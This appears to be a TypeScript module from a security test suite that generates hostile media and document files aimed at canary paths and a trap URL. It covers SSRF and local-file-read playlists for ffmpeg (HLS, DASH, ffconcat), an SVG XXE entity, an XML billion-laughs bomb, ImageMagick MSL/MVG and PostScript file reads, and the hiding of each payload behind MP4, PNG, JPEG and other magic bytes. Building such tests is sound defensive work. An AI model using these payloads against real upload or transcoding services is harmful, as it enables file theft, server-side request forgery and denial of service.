import { box, FTYP, PNG_MAGIC, riff, text } from './bytes.ts';
import type { HostileFile, Targets } from './hostile-file.ts';

/** Texts that make a reader open something else, whatever they are called. */
export function texts({ canary, pipe, trap }: Targets): [string, string][] {
  const hls = (...lines: string[]) => `#EXTM3U\n#EXT-X-VERSION:3\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`;
  const dash = (base: string) =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${base}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
  const svg = (href: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="${href}" width="64" height="64"/></svg>`;
  return [
    ['hls-file', hls('#EXTINF:1,', canary.film)],
    ['hls-file-url', hls('#EXTINF:1,', `file://${canary.film}`)],
    ['hls-pipe', hls('#EXTINF:1,', pipe)],
    ['hls-trap', hls('#EXTINF:1,', `${trap}/segment.ts`)],
    ['hls-trap-key', hls(`#EXT-X-KEY:METHOD=AES-128,URI="${trap}/key"`, '#EXTINF:1,', canary.film)],
    ['hls-map', hls(`#EXT-X-MAP:URI="${canary.film}"`, '#EXTINF:1,', pipe)],
    ['hls-master-self', '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nsource\n'],
    ['hls-master-trap', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${trap}/list.m3u8\n`],
    ['hls-concat', hls('#EXTINF:1,', `concat:${canary.text}|${canary.film}`)],
    ['hls-subfile', hls('#EXTINF:1,', `subfile,,start,0,end,64,,:${canary.text}`)],
    ['hls-crypto', hls('#EXTINF:1,', `crypto+file:${canary.film}`)],
    ['hls-mark', `\ufeff${hls('#EXTINF:1,', canary.film)}`],
    ['m3u', `#EXTM3U\n${canary.film}\n`],
    ['dash-file', dash(canary.film)],
    ['dash-trap', dash(`${trap}/film.mp4`)],
    ['dash-pipe', dash(pipe)],
    ['ffconcat', `ffconcat version 1.0\nfile '${canary.film}'\n`],
    ['ffconcat-unsafe', `ffconcat version 1.0\nfile 'file:${pipe}'\noption safe 0\n`],
    ['ffconcat-trap', `ffconcat version 1.0\nfile '${trap}/film.mp4'\n`],
    [
      'sdp',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${trap.split(':').at(-1)} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['ffmetadata', `;FFMETADATA1\ntitle=${canary.text}\n`],
    ['svg-file', svg(`file://${canary.picture}`)],
    ['svg-trap', svg(`${trap}/picture.png`)],
    [
      'svg-entity',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${canary.text}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ],
    [
      'xml-laughs',
      `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>`,
    ],
    ['html', `<!doctype html><script src="${trap}/x.js"></script><img src="file://${canary.picture}">`],
    [
      'msl',
      `<?xml version="1.0"?><image><read filename="${canary.picture}"/><write filename="/tmp/x"/></image>`,
    ],
    ['mvg', `push graphic-context\nimage over 0,0 0,0 '${trap}/x.png'\npop graphic-context\n`],
    ['postscript', `%!PS\n(${canary.text}) (r) file 64 string readstring pop ==\nshowpage\n`],
    [
      'pdf',
      `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${trap})>>>>endobj\ntrailer<</Root 1 0 R>>\n`,
    ],
    ['shell', `#!/bin/sh\ncat ${canary.text}\n`],
    ['json', `{"src": "file://${canary.text}"}`],
    ['avisynth', `DirectShowSource("${canary.film}")\n`],
    ['vpk-list', `[playlist]\nFile1=${canary.film}\nNumberOfEntries=1\n`],
    ['smil', `<smil><body><video src="${canary.film}"/></body></smil>`],
    [
      'subtitles-idx',
      `# VobSub index file, v7\nlangidx: 0\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n`,
    ],
  ];
}

/** Each of them as a film, a picture and a sound; then behind the first bytes of what it is not. */
export function disguised(targets: Targets): HostileFile[] {
  const claims = ['video/mp4', 'image/png', 'audio/mpeg'];
  const plain = texts(targets).map(([name, content], at) => {
    const claimed = claims[at % claims.length] ?? 'video/mp4';
    return { name: `${name}.${claimed.split('/')[1]}`, bytes: text(content), claims: claimed };
  });
  const some = texts(targets).filter(([name]) =>
    ['hls-file', 'hls-pipe', 'hls-trap', 'dash-file', 'ffconcat', 'svg-trap'].includes(name),
  );
  const behind = some.flatMap(([name, content]) => {
    const bytes = text(content);
    return [
      { name: `ftyp+${name}.mp4`, bytes: Buffer.concat([FTYP, bytes]), claims: 'video/mp4' },
      { name: `free+${name}.mp4`, bytes: Buffer.concat([FTYP, box('free', bytes)]), claims: 'video/mp4' },
      { name: `png+${name}.png`, bytes: Buffer.concat([PNG_MAGIC, bytes]), claims: 'image/png' },
      { name: `id3+${name}.mp3`, bytes: Buffer.concat([ID3, bytes]), claims: 'audio/mpeg' },
      { name: `ebml+${name}.webm`, bytes: Buffer.concat([EBML, bytes]), claims: 'video/webm' },
      { name: `riff+${name}.webp`, bytes: riff('WEBP', ['VP8 ', bytes]), claims: 'image/webp' },
      { name: `ogg+${name}.ogg`, bytes: Buffer.concat([text('OggS'), bytes]), claims: 'audio/ogg' },
      { name: `jpeg+${name}.jpg`, bytes: Buffer.concat([JPEG, bytes]), claims: 'image/jpeg' },
    ];
  });
  return [...plain, ...behind];
}

const ID3 = Buffer.concat([text('ID3'), Buffer.from([3, 0, 0, 0, 0, 0, 0])]);
const EBML = Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80]);
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
